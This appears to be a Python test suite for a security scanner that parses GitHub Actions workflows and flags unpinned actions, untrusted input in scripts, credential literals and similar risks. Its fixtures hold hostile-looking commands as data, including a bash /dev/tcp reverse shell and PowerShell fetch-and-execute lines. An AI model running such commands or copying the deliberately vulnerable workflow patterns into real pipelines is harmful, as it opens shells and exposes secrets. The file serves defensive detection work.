"""GitHub workflows and actions: what is read of files, jobs and steps, and what is told as lost."""

from __future__ import annotations

import json
from datetime import datetime, timezone
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from jsonschema import Draft202012Validator

from gcheck.builtin import catalog
from gcheck.catalog.library import Library
from gcheck.collectors.manifests.collector import ManifestsCollector
from gcheck.collectors.pipelines.github_collector import FILE, JOB, GithubWorkflowsCollector
from gcheck.model.collector import Plan, Run
from gcheck.model.gap import Gap
from gcheck.model.population import Population
from gcheck.model.resource import Resource
from gcheck.model.source import Source
from gcheck.model.unread import Unread

COLLECTOR = GithubWorkflowsCollector()
WANTED = {kind: COLLECTOR.attributes(kind) for kind in COLLECTOR.types()}


def _collect(path: Path, wanted: dict[str, frozenset[str]] | None = None) -> list[Any]:
    run = Run(datetime(2026, 1, 1, tzinfo=timezone.utc))
    source = Source("w", "github-workflows", {"path": str(path)})
    return list(COLLECTOR.collect(source, Plan(wanted or WANTED), run))


def _write(root: Path, text: str, name: str = ".github/workflows/ci.yml") -> Path:
    path = root / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return root


def _jobs(root: Path) -> dict[str, Resource]:
    return {one.uid: one for one in _collect(root) if isinstance(one, Resource) and one.type == JOB}


def _job(
    root: Path, steps: str, head: str = "on: push", job: str = "    runs-on: ubuntu-24.04"
) -> dict[str, Any]:
    (found,) = _jobs(_write(root, f"{head}\njobs:\n  a:\n{job}\n    steps:\n{steps}")).values()
    return dict(found.attributes)


def _step(root: Path, text: str, **more: str) -> dict[str, Any]:
    steps = "".join(f"      {line}\n" for line in text.splitlines())
    (found,) = _job(root, steps, **more)["steps"]
    assert isinstance(found, dict)
    return found


WORKFLOW = """\
name: CI
on:
  push: {branches: [main]}
  pull_request_target:
  workflow_dispatch:
    inputs: {target: {type: string}, dry: {type: boolean}}
permissions: read-all
env:
  TITLE: ${{ github.event.pull_request.title }}
jobs:
  build:
    runs-on: [self-hosted, linux]
    timeout-minutes: 10
    permissions: {contents: write, packages: read}
    environment: {name: production}
    container: node
    services:
      db: {image: "postgres:16@sha256:00", env: {POSTGRES_PASSWORD: postgres-pw}}
    steps:
      - uses: actions/checkout@v4
        with: {ref: "${{ github.event.pull_request.head.sha }}"}
      - uses: acme/build@263435318d21b8e681c14492fe198d362a7d2c83
        with: {password: hunter2hunter2}
      - run: |
          make
          echo "${{ env.TITLE }} ${{ inputs.target }} ${{ inputs.dry }}"
  call:
    uses: acme/flows/.github/workflows/x.yml@main
    secrets: inherit
"""


def test_a_workflow_and_its_jobs(tmp_path: Path) -> None:
    found = [one for one in _collect(_write(tmp_path, WORKFLOW)) if isinstance(one, Resource)]
    assert [(one.type, one.uid) for one in found] == [
        (FILE, ".github/workflows/ci.yml"),
        (JOB, ".github/workflows/ci.yml#build"),
        (JOB, ".github/workflows/ci.yml#call"),
    ]
    file, build, call = (one.attributes for one in found)
    assert file["triggers"] == ["push", "pull_request_target", "workflow_dispatch"]
    assert file["permissions"] == {"all": "read", "write": [], "read": []}
    assert file["dispatch_inputs"] == ["target", "dry"]
    assert (
        build["permissions"]
        == build["own_permissions"]
        == {"all": None, "write": ["contents"], "read": ["packages"]}
    )
    assert (build["self_hosted"], build["timeout_minutes"], build["environment"]) == (True, 10, "production")
    assert [(one["use"], one["tag"], one["digest"]) for one in build["images"]] == [
        ("container", None, None), ("service", "16", "sha256:00"),
    ]  # fmt: skip
    checkout, action, script = build["steps"]
    assert (checkout["brings"], checkout["keeps_credentials"], checkout["fixed_to"]) == (
        "pull request",
        True,
        "version",
    )
    assert (action["owner"], action["action"], action["fixed_to"]) == ("acme", "acme/build", "commit")
    assert (action["inputs"][0]["credential"], action["inputs"][0]["literal"]) == (True, True)
    assert script["untrusted"] == ["github.event.pull_request.title"]
    assert script["inputs_in_code"] == ["inputs.target"]
    assert [(one["program"], one["words"]) for one in script["commands"]] == [
        ("make", []), ("echo", ["${{ env.TITLE }} ${{ inputs.target }} ${{ inputs.dry }}"]),
    ]  # fmt: skip
    assert found[1].place_of("steps.2.commands.1.program").line == 26
    assert (call["kind"], call["fixed_to"], call["secrets_inherited"]) == ("call", "branch", True)
    assert call["permissions"] == {"all": "read", "write": [], "read": []}


def test_no_value_of_a_secret_is_told(tmp_path: Path) -> None:
    token = "ghp_" + "a1B2" * 9
    text = f"on: push\nenv: {{A: {token}}}\njobs:\n  a:\n    runs-on: x\n    env: {{PASSWORD: swordfish99}}\n    steps:\n"
    text += f"      - run: |\n          curl -u me:swordfish99 -H 'Authorization: Bearer {token}' https://x.example.com\n"
    text += f"      - uses: a/b@v1\n        with: {{token: {token}}}\n"
    told = json.dumps(
        [one.to_json() for one in _collect(_write(tmp_path, text)) if isinstance(one, (Resource, Gap))]
    )
    assert token not in told
    assert "swordfish99" not in told
    (job,) = _jobs(tmp_path).values()
    assert job.attributes["steps"][0]["commands"][0]["secret"] == "a GitHub token"  # what kind it is


@pytest.mark.parametrize(
    ("uses", "wanted"),
    [
        ("./build", ("local", None)),
        ("$/.github/actions/x", ("local", None)),
        ("docker://alpine:3", ("docker", "tag")),
        ("docker://alpine@sha256:00", ("docker", "digest")),
        ("docker://alpine", ("docker", "nothing")),
        ("a/b@" + "0" * 40, ("repository", "commit")),
        ("a/b@" + "0" * 64, ("repository", "commit")),
        ("a/b@" + "0" * 39, ("repository", "version")),
        ("a/b@v1.2", ("repository", "version")),
        ("a/b@main", ("repository", "branch")),
        ("a/b@release/v1", ("repository", "branch")),
        ("a/b", ("repository", "nothing")),
    ],
)
def test_what_an_action_is_fixed_to(tmp_path: Path, uses: str, wanted: tuple[str, str | None]) -> None:
    found = _step(tmp_path, f"- uses: {uses}")
    assert (found["origin"], found["fixed_to"]) == wanted


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("- run: echo ${{ github.event.issue.title }}", ["github.event.issue.title"]),
        ("- run: echo ${{ toJSON(github.event) }}", ["github.event"]),
        ("- run: echo \"$T\"\n  env: {T: '${{ github.event.issue.title }}'}", []),
        (
            "- run: echo ${{ env.T }}\n  env: {T: '${{ github.event.issue.title }}'}",
            ["github.event.issue.title"],
        ),
        (
            "- uses: actions/github-script@v7\n  with: {script: 'f(`${{ github.event.comment.body }}`)'}",
            ["github.event.comment.body"],
        ),
        ("- uses: a/b@v1\n  with: {title: '${{ github.event.comment.body }}'}", []),
        ("- run: echo ${{ github.head_ref }}\n  if: github.event.pull_request.head.repo.fork == false", []),
        (
            "- run: echo ${{ github.event.issue.title }}\n  if: github.event.pull_request.head.repo.fork == false",
            ["github.event.issue.title"],
        ),
        ("- run: echo ${{ github.event.issue.number }}", []),
    ],
)
def test_what_outsiders_write_into_scripts(tmp_path: Path, text: str, wanted: list[str]) -> None:
    assert _step(tmp_path, text)["untrusted"] == wanted


def test_an_expression_that_is_not_understood_leaves_open_what_flows(tmp_path: Path) -> None:
    found = _step(tmp_path, "- run: echo ${{ github.. }}")
    assert isinstance(found["untrusted"][0], Unread)


@pytest.mark.parametrize(
    ("run", "more", "wanted"),
    [
        ("gh pr checkout 1", "", "pull request"),
        ("git fetch origin pull/1/head", "", "pull request"),
        ("make", "", None),
    ],
)
def test_scripts_that_bring_in_pull_requests(tmp_path: Path, run: str, more: str, wanted: str | None) -> None:
    assert _step(tmp_path, f"- run: {run}")["brings"] == wanted


@pytest.mark.parametrize(
    ("runs_on", "wanted"),
    [
        ("ubuntu-latest", False),
        ("[self-hosted, x]", True),
        ("{group: big}", Unread),
        ("linux.2xlarge", Unread),
        ("'${{ inputs.runner }}'", Unread),
        ("'${{ matrix.os }}'", False),
        ("5", Unread),
        ("{}", Unread),
    ],
)
def test_where_a_job_runs(tmp_path: Path, runs_on: str, wanted: Any) -> None:
    job = f"    runs-on: {runs_on}\n    strategy: {{matrix: {{os: [ubuntu-24.04, windows-2025]}}}}"
    found = _job(tmp_path, "      - run: make", job=job)["self_hosted"]
    assert isinstance(found, Unread) if wanted is Unread else found is wanted


@pytest.mark.parametrize(
    ("job", "run", "wanted"),
    [
        ("    runs-on: windows-2025", "cargo build; cargo test", ["cargo", "cargo"]),
        ("    runs-on: windows-2025", "irm https://x.example.com/i.ps1 | iex", ["irm", "iex"]),
        ("    runs-on: windows-2025", "if ($x) { a }", [Unread]),
        (
            "    runs-on: windows-2025",
            "iex ((New-Object Net.WebClient).DownloadString('https://x'))",
            ["Invoke-WebRequest", Unread],
        ),
        ("    runs-on: ubuntu-24.04\n    defaults: {run: {shell: python}}", "print(1)", [Unread]),
        ("    runs-on: ubuntu-24.04", "if [ ; then ((", [Unread]),
    ],
)
def test_scripts_of_other_shells(tmp_path: Path, job: str, run: str, wanted: list[Any]) -> None:
    found = _step(tmp_path, f"- run: |\n    {run}", job=job)["commands"]
    assert [
        one if isinstance(one, Unread) else one["program"] for one in found if not isinstance(one, Unread)
    ] == [name for name in wanted if name is not Unread]
    assert any(isinstance(one, Unread) for one in found) is (Unread in wanted)


@pytest.mark.parametrize(
    ("ref", "wanted"),
    [
        ("main", "repository"),
        ("${{ github.sha }}", "repository"),
        ("${{ github.event.pull_request.head.ref }}", "pull request"),
        ("refs/pull/${{ github.event.number }}/merge", "pull request"),
        ("${{ env.HEAD }}", "pull request"),
        ("${{ env.OTHER }}", Unread),
        ("${{ steps.find.outputs.sha }}", Unread),
        ("${{ inputs.ref || github.sha }}", Unread),
        ("${{ github.. }}", Unread),
    ],
)
def test_which_commit_is_checked_out(tmp_path: Path, ref: str, wanted: Any) -> None:
    text = f"- uses: actions/checkout@v5\n  env: {{HEAD: '${{{{ github.head_ref }}}}'}}\n  with: {{ref: '{ref}'}}"
    found = _step(tmp_path, text)["brings"]
    assert isinstance(found, Unread) if wanted is Unread else found == wanted


def test_what_a_script_that_was_not_read_does_is_open(tmp_path: Path) -> None:
    found = _step(tmp_path, "- run: print(1)\n  shell: python")
    assert all(isinstance(found[key], Unread) for key in ("brings", "pushes", "scans", "deploys"))


def test_a_shell_that_is_handed_out(tmp_path: Path) -> None:
    found = _step(tmp_path, "- run: bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")
    assert found["commands"][0]["remote_shell"] is True


def test_an_action_is_judged_by_its_steps(tmp_path: Path) -> None:
    text = "name: x\ninputs: {v: {}}\nruns:\n  using: composite\n  steps:\n    - run: echo ${{ inputs.v }}\n      shell: bash\n"
    (found,) = _jobs(_write(tmp_path, text, "tools/x/action.yml")).values()
    assert (found.uid, found.attributes["kind"], found.attributes["triggers"]) == (
        "tools/x/action.yml#action",
        "action",
        None,
    )
    assert found.attributes["steps"][0]["inputs_in_code"] == ["inputs.v"]


def test_an_action_in_javascript_is_none_of_ours(tmp_path: Path) -> None:
    _write(tmp_path, "name: x\nruns: {using: node20, main: a.js}\n", "action.yml")
    assert [type(one) for one in _collect(tmp_path)] == [Population, Population]


def test_a_file_of_any_name_is_known_by_what_it_holds(tmp_path: Path) -> None:
    _write(tmp_path, WORKFLOW, "somewhere/flow.yaml")
    assert COLLECTOR.finds(tmp_path / "somewhere/flow.yaml")
    assert len(_jobs(tmp_path / "somewhere/flow.yaml")) == 2
    assert COLLECTOR.finds(tmp_path)
    assert len(_jobs(tmp_path)) == 2
    assert COLLECTOR.finds(_write(tmp_path, WORKFLOW))
    assert len(_jobs(tmp_path / ".github/workflows")) == 2
    assert not ManifestsCollector().finds(tmp_path)


def test_the_steps_of_a_workflow_keep_its_plan(tmp_path: Path) -> None:
    found = _collect(_write(tmp_path, WORKFLOW), {FILE: frozenset(["triggers"])})
    assert [type(one) for one in found] == [Resource, Population]
    assert set(found[0].attributes) == {"triggers"}


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("on: push\njobs: [", "unparsed"),
        ("- a\n", "unparsed"),
        ("a: 1\n---\nb: 2\n", "unparsed"),
        ("on: push\non: pull_request\njobs: {}", "unparsed"),
        ("on: push\njobs: 5", "malformed"),
        ("on: push\njobs: {a: 5}", "malformed"),
        ("on: push", "malformed"),
        ("on: push\njobs: {a: {b: " + "[" * 200 + "]" * 200 + "}}", "unparsed"),
        (
            "x: &a [1, 1, 1, 1, 1, 1, 1, 1, 1, 1]\n"
            + "".join(f"x{n}: &a{n} [{', '.join([f'*a{n - 1}' if n else '*a'] * 10)}]\n" for n in range(7)),
            "unparsed",
        ),
        ("x0: &a0 " + "[" * 90 + "]" * 90 + "\nx1: &a1 " + "[" * 90 + "*a0" + "]" * 90 + "\n", "unparsed"),
    ],
)
def test_what_cannot_be_read_is_a_gap(tmp_path: Path, text: str, kind: str) -> None:
    found = _collect(_write(tmp_path, text))
    assert [one.kind for one in found if isinstance(one, Gap)] == [kind]
    assert not all(one.complete for one in found if isinstance(one, Population))


def test_a_folder_without_workflows_says_so(tmp_path: Path) -> None:
    (tmp_path / "x.yml").write_text("a: 1")
    gap = next(one for one in _collect(tmp_path) if isinstance(one, Gap))
    assert "no workflow" in gap.detail
    assert not COLLECTOR.finds(tmp_path)
    assert not COLLECTOR.finds(tmp_path / "missing.yml")


WRONG = st.recursive(
    st.sampled_from([None, True, 5, 1.5, "", "x", "${{ x }}", "${{", "a/b@v1", "inherit", "ubuntu-latest"]),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(st.sampled_from(["name", "run", "uses", "x"]), inner, max_size=3)
    ),
    max_leaves=6,
)
STEP = st.dictionaries(
    st.sampled_from(["run", "uses", "with", "env", "if", "shell", "name", "continue-on-error"]),
    WRONG,
    max_size=5,
)
JOB_PART = st.dictionaries(
    st.sampled_from(["runs-on", "permissions", "environment", "timeout-minutes", "container", "services", "strategy", "env", "if", "uses",
                     "secrets", "defaults"]),
    WRONG, max_size=6,
)  # fmt: skip
FITS = {kind: Draft202012Validator(Library((catalog(),)).types[kind].schema()) for kind in WANTED}


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.lists(STEP, max_size=3),
    JOB_PART,
    st.dictionaries(st.sampled_from(["on", "permissions", "env", "defaults"]), WRONG),
)
def test_wrong_types_are_never_more_than_unread(
    tmp_path: Path, steps: list[Any], job: dict[str, Any], root: dict[str, Any]
) -> None:
    text = json.dumps(root | {"jobs": {"a": job | {"steps": steps}}})
    for one in _collect(_write(tmp_path, text)):
        if isinstance(one, Resource):
            FITS[one.type].validate(_without_unread(dict(one.attributes)))


def _without_unread(value: Any) -> Any:
    if isinstance(value, dict):
        return {key: _without_unread(item) for key, item in value.items() if not isinstance(item, Unread)}
    if isinstance(value, list):
        return [_without_unread(item) for item in value if not isinstance(item, Unread)]
    return value


@pytest.mark.parametrize(
    ("head", "step", "wanted"),
    [
        ("on: release", "- run: make", True),
        ("on: {push: {tags: ['v*']}}", "- run: make", True),
        ("on: {push: {branches: [main]}}", "- run: make", False),
        ("on: {push: {branches: ['release/**'], tags: ['v*']}}", "- run: make", True),
        ("on: {push: {branches: [releases, main]}}", "- run: make", False),
        ("on: {push: {branches: [released-by-me]}}", "- run: make", False),
        ("on: push", "- uses: pypa/gh-action-pypi-publish@release/v1", True),
        ("on: push", "- uses: pypa/gh-action-pypi-publish-else@v1", False),
    ],
)
def test_what_is_a_release(tmp_path: Path, head: str, step: str, wanted: bool) -> None:
    assert _job(tmp_path, f"      {step}\n", head)["releases"] is wanted


@pytest.mark.parametrize(
    ("step", "wanted"),
    [
        ("- uses: Swatinem/rust-cache@v2", True),
        ("- uses: Swatinem/rust-cache@v2\n  with: {lookup-only: true}", False),
        ("- uses: astral-sh/setup-uv@v6\n  with: {enable-cache: true}", True),
        ("- uses: PyO3/maturin-action@v1\n  with: {sccache: 'true'}", True),
        ("- uses: PyO3/maturin-action@v1", False),
    ],
)
def test_what_restores_a_cache(tmp_path: Path, step: str, wanted: bool) -> None:
    assert _step(tmp_path, step)["caches"] is wanted


TITLE = "\n  env: {TITLE: '${{ github.event.pull_request.title }}', NUMBER: '${{ github.event.number }}'}"


@pytest.mark.parametrize(
    ("run", "wanted"),
    [
        ('echo "T=$TITLE" >> $GITHUB_ENV', True),
        ("short=$(echo \"$TITLE\" | cut -c1-9)\n    echo \"T=$short\" >> $GITHUB_ENV", True),
        ("a=$TITLE\n    b=${a%x}\n    echo \"$b\" >> $GITHUB_PATH", True),
        ("n=$NUMBER\n    echo \"N=$n\" >> $GITHUB_ENV", False),
        ("a=$TITLE\n    echo fixed >> $GITHUB_ENV", False),
        ("a=$TITLE\n    a=fixed\n    echo \"$TITLE\"", False),
    ],
)  # fmt: skip
def test_what_reaches_the_environment_by_way_of_variables(tmp_path: Path, run: str, wanted: bool) -> None:
    found = _step(tmp_path, f"- run: |\n    {run}{TITLE}", head="on: pull_request_target")
    assert found["environment_from_outside"] is wanted


@pytest.mark.parametrize(
    ("run", "wanted"),
    [
        ('echo "T=$TITLE" >> $GITHUB_ENV', True),
        ('echo "N=$NUMBER" >> $GITHUB_ENV', False),
        ("cat notes.txt >> $GITHUB_ENV", None),
        ("cat notes.txt >> notes.all", False),
    ],
)
def test_what_an_action_hands_on(tmp_path: Path, run: str, wanted: bool | None) -> None:
    (tmp_path / "action.yml").write_text(
        "name: x\nruns:\n  using: composite\n  steps:\n    - shell: bash\n"
        f"      run: {run}\n      env:\n        TITLE: ${{{{ github.event.issue.title }}}}\n        NUMBER: ${{{{ github.event.issue.number }}}}\n"
    )
    (action,) = [item for item in _collect(tmp_path) if isinstance(item, Resource)]
    said = action.attributes["steps"][0]["environment_from_outside"]
    assert isinstance(said, Unread) if wanted is None else said is wanted


@pytest.mark.parametrize(
    ("condition", "loose"),
    [
        ("contains('refs/heads/main refs/heads/next', github.ref)", True),
        ("github.event_name == 'push' && contains('main,next', github.ref_name)", True),
        ("contains(fromJSON('[\"main\"]'), github.ref_name)", False),
        ("contains(github.ref, 'release')", False),
        ("contains('a b', matrix.os)", False),
    ],
)
def test_conditions_that_look_into_a_text(tmp_path: Path, condition: str, loose: bool) -> None:
    quoted = condition.replace("'", "''")
    step = f"      - run: make\n        if: '{quoted}'\n"
    assert bool(_job(tmp_path, step)["loose_conditions"]) is loose
    job = f"    runs-on: ubuntu-24.04\n    if: '{quoted}'"
    assert bool(_job(tmp_path, "      - run: make\n", job=job)["loose_conditions"]) is loose


def test_secrets_of_which_a_part_is_taken(tmp_path: Path) -> None:
    steps = (
        "      - run: make\n        env: {P: '${{ fromJSON(secrets.DB).password }}', Q: '${{ secrets.WHOLE }}'}\n"
        "      - run: echo '${{ fromJSON(needs.a.outputs.x).y }}'\n"
    )
    assert _job(tmp_path, steps)["parsed_secrets"] == ["secrets.db"]
